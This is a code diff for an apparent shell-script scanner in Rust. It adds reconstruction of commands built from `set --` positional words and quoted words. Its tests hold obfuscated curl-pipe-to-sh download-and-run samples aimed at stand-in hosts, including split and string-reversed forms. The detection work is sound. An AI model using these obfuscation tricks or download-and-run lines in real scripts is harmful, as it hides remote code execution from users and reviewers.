@@ -40,6 +40,19 @@ pub(super) fn expanded_lines(text: &str) -> Vec<Rendition> {
         }
         let mut rest_commands = Vec::new();
         for part in split_commands(trimmed) {
+            // `set -- cu rl sh`: the words become `$1`, `$2`, `$3`, in place of any before.
+            if let Some(words) = part.strip_prefix("set -- ") {
+                vars.retain(|name, _| !name.starts_with(|c: char| c.is_ascii_digit()));
+                for (index, word) in words.split_whitespace().take(9).enumerate() {
+                    let Some(value) = expand_word(word, &vars) else {
+                        break;
+                    };
+                    if vars.len() < MAX_VARIABLES {
+                        vars.insert((index + 1).to_string(), value);
+                    }
+                }
+                continue;
+            }
             match assignment(part) {
                 Some((name, value)) => {
                     let known = expand_word(value, &vars);
@@ -69,6 +82,7 @@ pub(super) fn expanded_lines(text: &str) -> Vec<Rendition> {
                 .strip_prefix("eval ")
                 .map(|e| e.trim().trim_matches(['"', '\'']).to_string())
                 .unwrap_or(expanded);
+            let code = unquote_plain_words(&code);
             if code == command || code.len() > MAX_CALL_BYTES {
                 continue;
             }
@@ -88,6 +102,35 @@ pub(super) fn expanded_lines(text: &str) -> Vec<Rendition> {
             }
         }
     }
+    out
+}
+
+/// `"curl"` as `curl`: double quotes around a word with nothing the shell would treat specially change
+/// nothing when it runs, so the rules read the word bare.
+fn unquote_plain_words(line: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+=,-".contains(c);
+    let mut out = String::with_capacity(line.len());
+    let mut rest = line;
+    while let Some(open) = rest.find('"') {
+        out.push_str(&rest[..open]);
+        let after = &rest[open + 1..];
+        match after.find('"') {
+            Some(close) if close > 0 && after[..close].chars().all(plain) => {
+                out.push_str(&after[..close]);
+                rest = &after[close + 1..];
+            }
+            Some(close) => {
+                out.push('"');
+                out.push_str(&after[..=close]);
+                rest = &after[close + 1..];
+            }
+            None => {
+                out.push_str(&rest[open..]);
+                rest = "";
+            }
+        }
+    }
+    out.push_str(rest);
     out
 }
 
@@ -270,9 +313,20 @@ mod tests {
     #[test]
     fn commands_built_from_variables_read_as_run() {
         let script = "h=198.51.100\nh=$h.64\nt=cu; t=${t}rl\np=/d\n$t -fsS \"http://$h$p\" | ${SHELL:-sh}\necho done\n";
-        assert_eq!(codes(script), ["curl -fsS \"http://198.51.100.64/d\" | sh"]);
+        assert_eq!(codes(script), ["curl -fsS http://198.51.100.64/d | sh"]);
         let reversed = "s='hs | 9/lmth.x//:ptth Ls- lruc'\neval \"$(echo \"$s\" | rev)\"\n";
         assert_eq!(codes(reversed), ["curl -sL http://x.html/9 | sh"]);
+    }
+
+    #[test]
+    fn positional_words_set_in_the_script_are_read() {
+        let script = "set -- cu rl sh\n\"$1$2\" -fsSL https://t.example.invalid/t.sh | \"$3\"\n";
+        assert_eq!(
+            codes(script),
+            ["curl -fsSL https://t.example.invalid/t.sh | sh"]
+        );
+        // A greeting built from positional words reaches nothing.
+        assert!(codes("set -- hello world\necho \"$1, $2\"\n").is_empty());
     }
 
     #[test]
